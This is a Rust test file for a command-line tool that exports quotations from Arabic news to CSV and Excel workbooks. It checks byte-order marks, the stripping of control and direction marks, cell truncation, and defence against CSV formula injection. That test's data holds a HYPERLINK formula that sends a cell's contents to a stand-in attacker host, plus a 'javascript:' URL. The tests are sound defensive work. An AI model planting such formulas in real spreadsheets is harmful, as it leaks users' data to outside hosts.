//! Tables as a spreadsheet gets them: CSV that is not run, workbooks, and how they are asked for.

mod support;

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use support::{code, file, folder, run, stderr, stdout};

/// An input made after a public report of what broke another tool.
fn case(name: &str) -> String {
    format!("{}/tests/cases/{name}", env!("CARGO_MANIFEST_DIR"))
}

/// The rows of a workbook's first sheet, its header first.
fn rows(workbook: &[u8]) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(workbook.to_vec())).unwrap();
    book.worksheet_range("Sheet1").unwrap().rows().map(<[_]>::to_vec).collect()
}

/// The cells of one column of a workbook.
fn column(workbook: &[u8], name: &str) -> Vec<Data> {
    let rows = rows(workbook);
    let place = rows[0].iter().position(|cell| *cell == Data::String(name.into())).unwrap();
    rows[1..].iter().map(|row| row[place].clone()).collect()
}

/// The rows of CSV, its header first.
fn lines(csv: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(Into::into).collect()).collect()
}

fn words(words: &str) -> Data {
    Data::String(words.into())
}

#[test]
fn case_66_a_file_that_excel_opens_right() {
    let plain = run(&["read", "-f", "csv", &case("66-csv-in-excel.txt")]);
    let with = run(&["read", "-f", "csv", "--bom", &case("66-csv-in-excel.txt"), &case("66-csv-in-excel.txt")]);
    assert!(plain.stdout.starts_with(b"id,title,") && with.stdout.starts_with(b"\xef\xbb\xbfid,title,"));
    assert_eq!(stdout(&with).matches('\u{feff}').count(), 1);
    let workbook = run(&["read", "-f", "xlsx", &case("66-csv-in-excel.txt")]).stdout;
    assert_eq!(column(&workbook, "who"), [words("ماجد الخوري")]);
    assert_eq!(column(&workbook, "content"), [words("إن القطار جاهز")]);
    let help = run(&["read", "--help"]);
    assert!(stdout(&help).contains("--bom") && stdout(&help).contains("Excel"));
}

#[test]
fn case_67_no_cell_is_run() {
    let table = |args: &[&str]| lines(stdout(&run(&[&["read", "-f", "csv", &case("67-csv-formula.jsonl")], args].concat())));
    let (safe, raw) = (table(&[]), table(&["--raw-cells"]));
    for cell in safe.iter().flatten() {
        assert!(!cell.starts_with(['=', '@', '+', '-']), "{cell:?}");
    }
    let ran: Vec<&String> = raw.iter().flatten().filter(|cell| cell.starts_with(['=', '@', '+', '-'])).collect();
    assert_eq!(
        ran,
        ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\")", "-5 درجات هذا المساء", "@x", "@SUM(1+1)", "=1+1 لا تساوي ثلاثة"]
    );
    assert!(
        raw.iter().zip(&safe).all(|(raw, safe)| raw.iter().zip(safe).all(|(raw, safe)| safe.strip_prefix('\'').unwrap_or(safe) == raw))
    );
    let workbook = run(&["read", "-f", "xlsx", &case("67-csv-formula.jsonl")]).stdout;
    assert_eq!(column(&workbook, "id"), [words("=1+1"), words("@x")]);
    assert_eq!(column(&workbook, "title")[1], words("@SUM(1+1)"));
    assert_eq!(column(&workbook, "content"), [words("-5 درجات هذا المساء"), words("=1+1 لا تساوي ثلاثة")]);
}

const SAID: &str = "قال الوزير ماجد الخوري إن القطار جاهز.";

fn line(fields: serde_json::Value) -> String {
    let mut record = serde_json::json!({"id": "1", "text": SAID});
    record.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
    format!("{record}\n")
}

/// What comes in of an article, and what stands in the cell of a workbook.
#[test]
fn cells_of_a_workbook() {
    let dir = folder("cells");
    for (field, given, expected) in [
        ("date", "2031-03-14", Data::Float(47_921.0)),
        ("date", "2031-03-14T06:00:00+03:00", Data::Float(47_921.25)),
        ("date", "2031", words("2031")),
        ("date", "2031-03", words("2031-03")),
        ("title", "خبر\u{0}\u{1b}[31m\u{b}", words("خبر[31m\u{fffd}")),
        ("title", "\u{2067}خبر\u{2069}\u{200f}", words("خبر")),
        ("title", "=1+1", words("=1+1")),
        ("title", "<a href=\"x\">&amp;</a>", words("<a href=\"x\">&amp;</a>")),
        ("url", "https://example.org/أخبار?id=1&x=2", words("https://example.org/أخبار?id=1&x=2")),
        ("url", "javascript:alert(1)", words("javascript:alert(1)")),
        ("outlet", "1202", words("1202")),
        ("outlet", "٢٠٣١", words("٢٠٣١")),
    ] {
        let input = file(&dir, "a.jsonl", &line(serde_json::json!({ field: given })));
        let output = run(&["read", "-f", "xlsx", &input]);
        let found = match &column(&output.stdout, field)[..] {
            [Data::DateTime(date)] => Data::Float(date.as_f64()),
            [cell] => cell.clone(),
            cells => panic!("{given:?}: {cells:?}"),
        };
        assert_eq!(found, expected, "{field}: {given:?}");
        assert_eq!(stderr(&output), "", "{given:?}");
    }
}

#[test]
fn what_is_longer_than_a_cell_is_told() {
    let dir = folder("long");
    let input = file(&dir, "a.jsonl", &line(serde_json::json!({"title": "م".repeat(40_000)})));
    let output = run(&["read", "-f", "xlsx", "-o", dir.join("a.xlsx").to_str().unwrap(), &input]);
    assert_eq!(code(&output), 0);
    assert!(stderr(&output).contains("a.xlsx: one cell is cut at 32,767 characters"), "{}", stderr(&output));
    let workbook = std::fs::read(dir.join("a.xlsx")).unwrap();
    let Data::String(title) = &column(&workbook, "title")[0] else { panic!("no title") };
    assert_eq!(title.chars().count(), 32_767);
    assert!(title.ends_with('…'));
}

#[test]
fn flags_of_csv_belong_to_csv() {
    for (args, said) in [
        (["-f", "jsonl", "--bom"], "--bom: is for CSV; expected --format csv"),
        (["-f", "xlsx", "--raw-cells"], "--raw-cells: is for CSV; expected --format csv"),
        (["-f", "xlsx", "--bom"], "--bom: is for CSV; expected --format csv"),
    ] {
        for command in ["read", "search", "export", "speakers"] {
            let output = run(&[&[command], &args[..]].concat());
            assert_eq!((code(&output), stderr(&output).trim_end()), (2, &*format!("rawi: {said}")), "{command} {args:?}");
        }
    }
}

#[test]
fn every_command_makes_workbooks() {
    let dir = folder("workbooks");
    let archive = dir.join("a").to_str().unwrap().to_owned();
    let news: String = ["https://example.org/1", "https://example.org/2"]
        .iter()
        .zip(["القطار", "الجسر"])
        .map(|(url, what)| line(serde_json::json!({"id": url, "url": url, "date": "2031-03-14", "text": SAID.replace("القطار", what)})))
        .collect();
    assert_eq!(code(&run(&["add", "-a", &archive, &file(&dir, "news.jsonl", &news)])), 0);
    let out = dir.join("t.xlsx").to_str().unwrap().to_owned();
    for (args, column, expected) in [
        (&["search", "القطار"][..], "content", &["إن القطار جاهز"][..]),
        (&["export"], "who_name", &["ماجد الخوري", "ماجد الخوري"]),
        (&["export", "القطار"], "url", &["https://example.org/1"]),
        (&["show", "https://example.org/2"], "content", &["إن الجسر جاهز"]),
        (&["speakers"], "name", &["ماجد الخوري"]),
        (&["speakers", "ماجد الخوري"], "name", &["ماجد الخوري"]),
    ] {
        let _ = std::fs::remove_file(&out);
        let piped = run(&[args, &["-a", &archive, "-f", "xlsx"]].concat());
        let written = run(&[args, &["-a", &archive, "-o", &out]].concat());
        assert_eq!((code(&piped), code(&written)), (0, 0), "{args:?}: {}{}", stderr(&piped), stderr(&written));
        let expected: Vec<Data> = expected.iter().map(|w| words(w)).collect();
        let mut found = self::column(&std::fs::read(&out).unwrap(), column);
        found.sort_by_key(ToString::to_string);
        assert_eq!(found, expected, "{args:?}");
        assert_eq!(rows(&piped.stdout), rows(&std::fs::read(&out).unwrap()), "{args:?}");
    }
    // Nothing found is a table without rows.
    let nothing = run(&["search", "-a", &archive, "-f", "xlsx", "لاشيءهنا"]);
    assert_eq!((code(&nothing), rows(&nothing.stdout).len()), (1, 1));
}

/// Case 21, in everything that leaves the text.
#[test]
fn case_21_no_direction_marks_in_names_and_tables() {
    let is_unseen = |c: char| matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let input = case("21-bidi-marks.txt");
    let record: serde_json::Value = serde_json::from_str(stdout(&run(&["read", "-f", "jsonl", &input]))).unwrap();
    let names: Vec<&str> = record["speakers"].as_array().unwrap().iter().map(|s| s["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["سليم حداد", "النقابة"]);
    assert!(!record["speakers"].to_string().contains(is_unseen), "{}", record["speakers"]);
    // The spans still point to the words as they stand.
    let text: Vec<char> = record["text"].as_str().unwrap().chars().collect();
    for statement in record["statements"].as_array().unwrap() {
        for (span, words) in statement["content"].as_array().unwrap().iter().zip(statement["words"]["content"].as_array().unwrap()) {
            let [start, end] = [0, 1].map(|i| span[i].as_u64().unwrap() as usize);
            assert_eq!(text[start..end].iter().collect::<String>(), *words.as_str().unwrap());
        }
    }
    let csv = run(&["read", "-f", "csv", &input]);
    assert!(!stdout(&csv).contains(is_unseen), "{}", stdout(&csv));
    assert_eq!(lines(stdout(&csv)).len(), 4);
    let archive = folder("marks").join("a").to_str().unwrap().to_owned();
    assert_eq!(code(&run(&["add", "-a", &archive, &input])), 0);
    for args in [&["speakers", "-f", "jsonl"][..], &["speakers", "-f", "csv"], &["export", "-f", "csv"]] {
        let output = run(&[args, &["-a", &archive]].concat());
        assert_eq!(code(&output), 0, "{args:?}");
        assert!(!stdout(&output).contains(is_unseen), "{args:?}: {}", stdout(&output));
    }
    assert_eq!(code(&run(&["search", "-a", &archive, "\"اللقاح متوفر\""])), 0);
}
